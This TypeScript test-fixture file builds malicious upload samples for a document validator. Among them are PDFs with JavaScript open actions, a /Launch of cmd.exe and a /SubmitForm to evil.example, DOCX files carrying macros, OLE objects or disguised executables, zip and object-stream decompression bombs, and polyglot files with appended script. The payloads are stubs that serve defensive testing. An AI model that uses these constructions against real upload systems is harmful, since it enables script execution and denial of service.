import { createDeflate, createDeflateRaw, type Deflate } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict } from 'pdf-lib';
import { tinyDocxParts, tinyJpeg, tinyPdf, tinyPng } from '../../../../../packages/core/src/document/testing.ts';
import { deflated, writeZip, type ZipEntry } from './zip-writer.ts';

/**
 * The malicious uploads of issue 15 item 10, each built in the test by the tools an attacker would use
 * (pdf-lib writes compressed object streams; the ZIP writer states false sizes). No fixture on disk.
 */

const MB = 1024 * 1024;
const HTML = '<html><body><script>fetch("/api/v1/me")</script></body></html>\n';

/** A genuine 2-page PDF written by pdf-lib, its objects packed in compressed object streams (PDF 1.5). */
export async function genuinePdf(change?: (doc: PDFDocument, page: PDFDict) => void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const n of [1, 2]) doc.addPage([595, 842]).drawText(`To khai, trang ${n}`, { x: 50, y: 780, font });
  change?.(doc, doc.getPage(0).node);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** A link on page 1 whose action is `action` (an annotation, so that no `/OpenAction` is needed). */
const linkDoing = (action: Record<string, string | PDFString>) => (doc: PDFDocument, page: PDFDict) => {
  const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: action });
  page.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
};

export const pdfAttacks = {
  'JavaScript on open, in a compressed object stream': () =>
    genuinePdf((doc) => {
      const script = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("x")') });
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
    }),
  'an /OpenAction to a page': () =>
    genuinePdf((doc, page) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([page, 'Fit']))),
  'a /Launch action': () => genuinePdf(linkDoing({ S: 'Launch', F: PDFString.of('cmd.exe') })),
  'a /SubmitForm action': () => genuinePdf(linkDoing({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })),
  'a page action (/AA)': () =>
    genuinePdf((doc, page) => page.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'URI', URI: 'x' } }))),
  'an attached program (/EmbeddedFiles)': () =>
    genuinePdf(
      (doc) => void doc.attach(Buffer.from('MZ\x90\x00'), 'setup.exe', { mimeType: 'application/x-msdownload' }),
    ),
  'a script name spelt with lower-case escapes': async () =>
    Buffer.from(tinyPdf(1, ' /OpenAction << /S /J#61vaScript /#4aS (x) >>')),
};

/** `mb` MB of spaces through `deflate`, a megabyte at a time: a few hundred kB out, little memory used. */
async function squeezed(deflate: Deflate, mb: number): Promise<Buffer> {
  const parts: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const spaces = Buffer.alloc(MB, 0x20);
  for (let i = 0; i < mb; i++) deflate.write(spaces);
  deflate.end();
  await done;
  return Buffer.concat(parts);
}

/** A DOCX whose single big part unpacks to `mb` MB, and whose directory says so or lies. */
export async function zipBomb(mb: number, lie: boolean): Promise<Buffer> {
  const data = await squeezed(createDeflateRaw({ level: 9 }), mb);
  const bomb: ZipEntry = { name: 'word/media/image1.png', data, deflated: true, crc: 0 };
  return docx([{ ...bomb, declaredSize: lie ? 1024 : mb * MB }]);
}

/** A DOCX as Word writes it: the parts of `tinyDocx`, deflated, plus `extra`. */
export const docx = (extra: ZipEntry[] = []): Buffer =>
  writeZip([...Object.entries(tinyDocxParts()).map(([name, text]) => deflated(name, text)), ...extra]);

export const officeAttacks = {
  'a DOCX holding a program named as a picture': () => docx([deflated('word/media/image1.png', 'MZ\x90\x00 program')]),
  'a DOCX holding a program': () => docx([deflated('word/embeddings/setup.exe', 'anything')]),
  'a DOCX with VBA macros': () => docx([deflated('word/vbaProject.bin', '\xd0\xcf\x11\xe0')]),
  'a DOCX with an OLE object': () =>
    docx([deflated('word/embeddings/oleObject1.bin', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]))]),
};

/** A PDF whose one object stream (/FlateDecode) unpacks to `mb` MB: pdf-lib alone would unpack it in full. */
export async function objectStreamBomb(mb: number): Promise<Buffer> {
  const data = await squeezed(createDeflate({ level: 9 }), mb);
  const pdf = Buffer.from(tinyPdf(1)).toString('latin1');
  const stream = `9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
  const at = pdf.indexOf('xref');
  return Buffer.concat([
    Buffer.from(pdf.slice(0, at), 'latin1'),
    Buffer.from(stream, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\n${pdf.slice(at)}`, 'latin1'),
  ]);
}

/** A PDF of one array of `count` zeros: small on disk, a great many objects in pdf-lib's memory. */
export function valuesBomb(count: number): Buffer {
  const pdf = Buffer.from(tinyPdf(1)).toString('latin1');
  const at = pdf.indexOf('xref');
  return Buffer.from(`${pdf.slice(0, at)}9 0 obj\n[${'0 '.repeat(count)}]\nendobj\n${pdf.slice(at)}`, 'latin1');
}

/**
 * A script in the catalog, then a later revision of the catalog without it. pdf-lib keeps the last
 * object parsed; a reader follows the cross-reference table, which an attacker points at the first.
 */
export const hiddenByRevision = (): Buffer =>
  Buffer.concat([
    Buffer.from(tinyPdf(1, ' /OpenAction << /S /JavaScript /JS (app.alert(1)) >>')),
    Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n%%EOF\n'),
  ]);

export const polyglots = {
  'a web page with a PDF after it': async () => Buffer.concat([Buffer.from(HTML), await genuinePdf()]),
  'a PDF with a web page after %%EOF': async () => Buffer.concat([await genuinePdf(), Buffer.from(HTML)]),
  'a JPEG that is a PDF too (%PDF- in a comment)': async () => {
    const jpeg = Buffer.from(tinyJpeg());
    const comment = Buffer.from('\xff\xfe\x00\x12%PDF-1.7 1 0 obj', 'latin1');
    return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
  },
  'a JPEG with a web page after its end': async () => Buffer.concat([tinyJpeg(), Buffer.from(HTML)]),
  'a PNG with a web page after IEND': async () => Buffer.concat([tinyPng(), Buffer.from(HTML)]),
};
